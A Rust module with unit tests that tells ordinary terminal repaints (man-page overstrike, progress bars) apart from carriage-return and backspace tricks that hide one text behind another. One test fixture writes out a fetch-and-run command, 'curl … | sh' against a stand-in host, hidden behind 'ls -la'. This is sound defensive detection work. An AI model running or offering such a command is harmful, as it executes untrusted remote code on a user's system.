//! Controls that repaint: what man pages and progress bars do with backspace and carriage return, as against what
//! hides one text behind another.

use std::cell::Cell;
use std::ops::Range;

use super::unit::{char_before, unit_at};

/// The line judged last, so that a line with many carriage returns is judged once.
#[derive(Clone, Copy, Default)]
pub(super) struct Line {
    start: usize,
    end: usize,
    progress: bool,
}

/// Whether the control run `range`, which starts with `first`, is usual in the output of a program.
pub(super) fn is_usual(bytes: &[u8], range: Range<usize>, first: char, line: &Cell<Line>) -> bool {
    if range.len() != first.len_utf8() {
        return false;
    }
    match first {
        '\u{8}' => is_overstrike(bytes, range),
        '\u{c}' => matches!(bytes[..range.start], [] | [.., b'\n']),
        '\r' => is_progress(bytes, range.start, line),
        _ => false,
    }
}

/// `X BS X` (bold) and `_ BS X` (underlined), as nroff writes them.
fn is_overstrike(bytes: &[u8], range: Range<usize>) -> bool {
    let before = char_before(bytes, range.start);
    let after = unit_at(bytes, range.end).and_then(|(unit, _)| unit.char());
    before.is_some()
        && (before == after || before == Some('_') || (before == Some('+') && after == Some('o')))
}

/// A line whose repaints differ in nothing but numbers and bars.
fn is_progress(bytes: &[u8], at: usize, line: &Cell<Line>) -> bool {
    let known = line.get();
    if (known.start..known.end).contains(&at) {
        return known.progress;
    }
    let floor = known.end.min(at);
    let start = memchr::memrchr(b'\n', &bytes[floor..at]).map_or(floor, |found| floor + found + 1);
    let end = memchr::memchr(b'\n', &bytes[at..]).map_or(bytes.len(), |found| at + found + 1);
    let mut repaints = bytes[start..end]
        .split(|&b| b == b'\r')
        .filter(|part| !part.trim_ascii().is_empty())
        .map(words);
    let first = repaints.next();
    let counts = bytes[start..end].iter().any(u8::is_ascii_digit);
    let progress = counts && repaints.all(|other| Some(other) == first);
    line.set(Line {
        start,
        end,
        progress,
    });
    progress
}

/// The letters of a line: what a repaint of a progress bar leaves as it is. Units of size and time come and go.
fn words(part: &[u8]) -> Vec<&[u8]> {
    part.split(|b| !b.is_ascii_alphabetic())
        .filter(|word| word.len() > 3)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn usual(s: &str, at: usize) -> bool {
        let first = s[at..].chars().next().unwrap();
        is_usual(s.as_bytes(), at..at + 1, first, &Cell::default())
    }

    #[test]
    fn progress_bars_are_told_from_overwriting() {
        assert!(usual("10%\r50%\r100%\n", 3));
        assert!(usual(
            "Receiving objects:  1%\rReceiving objects: 99% | 3 MiB\n",
            22
        ));
        assert!(!usual(
            "curl https://evil.invalid | sh\rls -la          ",
            30
        ));
        assert!(!usual("one\rtwo\rthree", 3));
        assert!(!usual("deleted 5 accounts\rchecked 5 accounts", 18));
    }

    #[test]
    fn overstrike_is_told_from_erasing() {
        assert!(usual("N\u{8}N", 1));
        assert!(usual("_\u{8}x", 1));
        assert!(!usual("x\u{8}\u{8}y", 1));
        assert!(!usual("a\u{8}b", 1));
    }
}
